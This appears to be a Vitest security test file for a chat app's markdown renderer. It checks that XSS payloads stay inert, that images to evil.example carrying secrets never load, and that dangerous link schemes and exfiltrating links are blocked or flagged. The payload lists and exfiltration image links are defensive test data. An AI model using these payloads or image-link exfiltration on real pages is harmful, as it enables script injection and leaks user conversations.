// The abuse cases of GUARDRAILS.md B that concern the page, by their number. What only a browser can
// tell (that nothing leaves, that the frame is confined) is tested there too.
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { flushSync } from 'svelte';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { diagramPage } from '../../artifact/plugin';
import { browserHost } from '../../src/lib/host/browser';
import { BlockSplitter, LinkDialog, Markdown } from '../../src/lib/markdown';
import { describeAddress, safeHref } from '../../src/lib/markdown/address';
import { diagramReport } from '../../src/lib/markdown/diagram';
import { drawFormula } from '../../src/lib/markdown/formula';
import { highlight } from '../../src/lib/markdown/highlight';
import { linkGate } from '../../src/lib/markdown/links.svelte';
import { clear, preparePage, settle, show, testHost, type TestHost } from '../thread/page';

let host: TestHost;

beforeAll(preparePage);
beforeEach(async () => {
  host = await testHost();
});
afterEach(async () => {
  linkGate.close();
  await clear();
});

const shown = (text: string) => show(Markdown, { blocks: BlockSplitter.of(text) });
const draw = (root: HTMLElement) => {
  [...root.querySelectorAll('button')].find((one) => one.textContent.trim() === 'Draw')?.click();
  flushSync();
};

describe('AC-29: scripts in an answer', () => {
  const PAYLOADS = [
    '<script>window.hit = 1</script>',
    '<img src=x onerror="window.hit = 1">',
    '<svg><animate onbegin="window.hit = 1" attributeName=x dur=1s>',
    '<details open ontoggle="window.hit = 1"><summary>x</summary></details>',
    '<math><maction actiontype="statusline#javascript:window.hit=1">x</maction></math>',
    '<a href="jav&#x09;ascript:window.hit=1">x</a>',
    '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    '[x](javascript:window.hit=1 "onmouseover=window.hit=1")',
    '$\\href{javascript:window.hit=1}{x}$',
  ];

  it.each(PAYLOADS)('are text in every place: %s', async (payload) => {
    const places = [
      payload,
      `# ${payload}`,
      `- [ ] ${payload}`,
      `> ${payload}`,
      `| ${payload.replaceAll('|', '')} |\n|---|\n| ${payload} |`,
      `x[^1]\n\n[^1]: ${payload}`,
      `**${payload}**`,
      `\`${payload}\``,
      `\`\`\`html\n${payload}\n\`\`\``,
      `\`\`\`mermaid\n${payload}\n\`\`\``,
    ];
    const root = shown(places.join('\n\n'));
    await settle();
    const forbidden = 'script, img, iframe, object, embed, a, form, style, link, animate, details';
    expect(root.querySelector(forbidden)).toBeNull();
    for (const element of root.querySelectorAll('*')) {
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|href|src/);
    }
    expect('hit' in window).toBe(false);
  });

  it('have no way in: no component takes markup, and no module writes it', () => {
    const files = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((file) =>
      /\.(svelte|ts)$/.test(file),
    );
    expect(files.length).toBeGreaterThan(100);
    for (const file of files) {
      const source = readFileSync(`src/${file}`, 'utf8');
      expect(source, file).not.toMatch(
        /\{@html|innerHTML|outerHTML|insertAdjacentHTML|document\.write/,
      );
      expect(source, file).not.toMatch(/\beval\(|new Function\(|srcdoc/);
    }
  });
});

describe('AC-30: what draws diagrams', () => {
  it('is a page whose policy lets its one script run, and no other', async () => {
    const html = await diagramPage();
    const scripts = [...html.matchAll(/<script>(.*?)<\/script>/gs)].map((found) => found[1] ?? '');
    expect(scripts).toHaveLength(1);
    const hash = createHash('sha256')
      .update(scripts[0] ?? '')
      .digest('base64');
    const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
    expect(policy).toContain(`script-src 'sha256-${hash}';`);
    expect(policy).toContain("default-src 'none'");
  });

  const DIAGRAM = '```mermaid\ngraph TD; A-->B\n```';

  it('is not there until it is asked for, and then without origin or rights', () => {
    const root = shown(DIAGRAM);
    expect(root.querySelector('iframe')).toBeNull();
    draw(root);
    const frame = root.querySelector('iframe');
    expect(frame?.getAttribute('sandbox')).toBe('allow-scripts');
    expect(frame?.getAttribute('allow')).toBe('');
    expect(frame?.hasAttribute('srcdoc')).toBe(false);
    expect(frame?.getAttribute('src')).toBe(host.diagramPage);
  });

  it('is heard only from its own frame, without an origin, and only in its own words', () => {
    const frame = {} as Window;
    const said = (data: unknown, origin = 'null', source: unknown = frame) =>
      diagramReport({ data, origin, source } as MessageEvent, frame);
    expect(said({ report: 'ready' })).toEqual({ report: 'ready' });
    expect(said({ report: 'ready' }, 'https://evil.example')).toBeNull();
    expect(said({ report: 'ready' }, 'null', {})).toBeNull();
    expect(
      diagramReport(
        { data: { report: 'ready' }, origin: 'null', source: null } as MessageEvent,
        null,
      ),
    ).toBeNull();
    expect(said({ report: 'drawn', height: 1e9 })).toEqual({ report: 'drawn', height: 4000 });
    for (const height of [-1, NaN, Infinity, '9', null, {}]) {
      const heard = said({ report: 'drawn', height });
      expect(heard === null || (heard.report === 'drawn' && heard.height <= 4000)).toBe(true);
    }
    expect(said({ report: 'failed', reason: 'x'.repeat(9999) })).toEqual({
      report: 'failed',
      reason: 'x'.repeat(600),
    });
    for (const data of [null, 1, 'draw', [], { report: 'rpc', command: 'settings_update' }]) {
      expect(said(data)).toBeNull();
    }
  });

  it('does not stop the page by what it says, and its source comes back', async () => {
    const root = shown(DIAGRAM);
    draw(root);
    window.dispatchEvent(new MessageEvent('message', { data: { report: 'failed', reason: 'x' } }));
    await settle();
    expect(root.querySelector('[role="alert"]')).toBeNull();
    [...root.querySelectorAll('button')]
      .find((one) => one.textContent.trim() === 'Source')
      ?.click();
    flushSync();
    expect(root.querySelector('iframe')).toBeNull();
    expect(root.querySelector('pre')?.textContent).toContain('A-->B');
  });
});

describe('AC-31: what loads by itself', () => {
  it('is nothing: not images in any form, not styles, not what is looked up before', async () => {
    const fetched = vi.spyOn(globalThis, 'fetch');
    const root = shown(
      [
        '![a](https://evil.example/a.png?q=secret)',
        '![b][1]',
        '[1]: https://evil.example/b.png',
        '<img src="https://evil.example/c.png" srcset="https://evil.example/d.png 2x">',
        '<link rel="prefetch" href="https://evil.example/e">',
        '<div style="background:url(https://evil.example/f)">x</div>',
        '<svg><image href="https://evil.example/g.svg"/></svg>',
        '$\\includegraphics{https://evil.example/h.png}$',
        '`![i](https://evil.example/i.png)`',
      ].join('\n\n'),
    );
    await settle();
    expect(root.querySelector('img, image, picture, source, video, audio, link, style')).toBeNull();
    expect(root.querySelectorAll('[src], [href], [srcset], [style], [background]')).toHaveLength(0);
    expect(root.textContent).toContain('evil.example');
    expect(fetched).not.toHaveBeenCalled();
  });

  it('is nothing either while an address is still being written', () => {
    const splitter = new BlockSplitter(() => 0);
    for (const character of '![a](https://evil.example/secret-words') {
      splitter.push(character);
      splitter.split();
    }
    expect(JSON.stringify(splitter.split())).not.toContain('"kind":"image"');
  });
});

describe('AC-32: a link that carries the conversation away', () => {
  it('is shown whole, with its host and length, and a warning', async () => {
    const secret = 'x'.repeat(2048);
    const root = shown(`[Read on](https://evil.example/?q=${secret})`);
    show(LinkDialog, {});
    root.querySelector<HTMLElement>('[role="link"]')?.click();
    await settle();
    const said = document.querySelector('[role="dialog"]')?.textContent ?? '';
    expect(said).toContain(secret);
    expect(document.querySelector('[role="dialog"] strong')?.textContent).toBe('evil.example');
    expect(said).toContain('2,072 characters');
    expect(said).toContain('It can carry parts of this conversation');
    expect(host.opened).toEqual([]);
  });

  it('shows a look-alike and a name before an @ for what they are', () => {
    expect(describeAddress('https://xn--pple-43d.com/')).toMatchObject({ foreignLetters: true });
    expect(describeAddress(safeHref('https://аpple.com/') ?? '').host).toContain('xn--');
    expect(describeAddress('https://google.com@evil.example/x')).toMatchObject({
      host: 'evil.example',
      hasUser: true,
    });
    expect(safeHref(`https://evil.example/?${'x'.repeat(9000)}`)).toBeNull();
  });
});

describe('AC-33: schemes', () => {
  it.each([
    'file:///etc/passwd',
    'smb://host/share',
    'ms-msdt:/id',
    'calculator:',
    'JaVaScRiPt:alert(1)',
    '\u0001javascript:alert(1)',
    ' \tjavascript:alert(1)',
    'java\nscript:alert(1)',
    'tauri://localhost/',
    'artifact://localhost/diagram.html',
    'ipc://localhost/rpc',
    '\\\\host\\share',
    '//host/share',
    'data:text/html,x',
    'blob:https://a/b',
    'vbscript:x',
    'about:blank',
    'view-source:https://a.example',
    'https:',
    'http://',
  ])('that are not http, https or mailto are not even asked about: %j', (address) => {
    expect(safeHref(address)).toBeNull();
    linkGate.ask(address);
    expect(linkGate.asked).toBeNull();
    const root = shown(`[x](<${address.replaceAll('\n', '')}>)`);
    expect(root.querySelector('[role="link"]')).toBeNull();
  });

  it('have one way out, after the question', () => {
    const files = readdirSync('src', { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.(svelte|ts)$/.test(file) && !file.startsWith('lib/host/'))
      .filter((file) => readFileSync(`src/${file}`, 'utf8').includes('openLink'));
    expect(files).toEqual(['lib/markdown/LinkDialog.svelte']);
  });
});

describe('AC-34: leaving the page', () => {
  it('cannot be done by what stands in a text', () => {
    const root = shown('[x](https://a.example) <https://b.example> www.c.example a@d.example');
    expect(root.querySelectorAll('[role="link"]')).toHaveLength(4);
    expect(root.querySelector('a, area, form, [href], [action], [target], base, meta')).toBeNull();
  });
});

describe('AC-35: keys in the page', () => {
  it('are nowhere after a sign-in: not in the address, the storage, the document or a global', async () => {
    const token = 'tok_3vZ8QmX1';
    vi.stubGlobal(
      'fetch',
      vi.fn(() => Promise.resolve(new Response('{}', { status: 200 }))),
    );
    history.replaceState(null, '', `/#token=${token}`);
    await browserHost.prepare();
    expect(location.href).not.toContain(token);
    expect(document.documentElement.outerHTML).not.toContain(token);
    expect(
      JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
    ).not.toContain(token);
    expect(document.cookie).not.toContain(token);
    // Svelte has globals that refuse to be read.
    const names = Object.getOwnPropertyNames(window).filter((name) => !name.startsWith('$'));
    for (const name of names) {
      const value: unknown = Reflect.get(window, name);
      if (typeof value === 'string') expect(value, name).not.toContain(token);
    }
    vi.unstubAllGlobals();
    preparePage();
  });
});

describe('AC-36: what draws', () => {
  it('makes no link and runs no command of a formula', () => {
    for (const tex of [
      '\\href{javascript:alert(1)}{x}',
      '\\url{https://evil.example}',
      '\\htmlData{x=1}{y}',
      '\\htmlId{a}{y}',
      '\\includegraphics{https://evil.example/x.png}',
    ]) {
      const drawn = JSON.stringify(drawFormula(tex, true));
      expect(drawn).not.toMatch(/"(?:href|src|style|id|data-x)":/);
    }
  });

  it('shows a huge formula as its source', async () => {
    const root = shown(`$$${'\\frac{1}{'.repeat(300)}x${'}'.repeat(300)}$$`);
    await settle();
    expect(root.querySelector('math')).toBeNull();
    expect(root.textContent).toContain('\\frac{1}{');
  });

  it('leaves a large diagram and a 5 MB line of code as they are', async () => {
    const root = shown(`\`\`\`mermaid\ngraph TD; ${'A-->B; '.repeat(4000)}\n\`\`\``);
    draw(root);
    expect(root.querySelector('iframe')).toBeNull();
    expect(root.querySelector('[role="alert"]')?.textContent).toContain('too large');
    expect(await highlight('let a = 1; '.repeat(500_000), 'js')).toBeNull();
  });

  it('gives mermaid its strict level, which a diagram cannot take back', () => {
    const frame = readFileSync('artifact/frame.ts', 'utf8');
    expect(frame).toContain("securityLevel: 'strict'");
    const secure = /secure: \[([^\]]*)\]/.exec(frame)?.[1] ?? '';
    for (const key of ['secure', 'securityLevel', 'maxTextSize', 'htmlLabels', 'themeCSS']) {
      expect(secure).toContain(`'${key}'`);
    }
  });
});
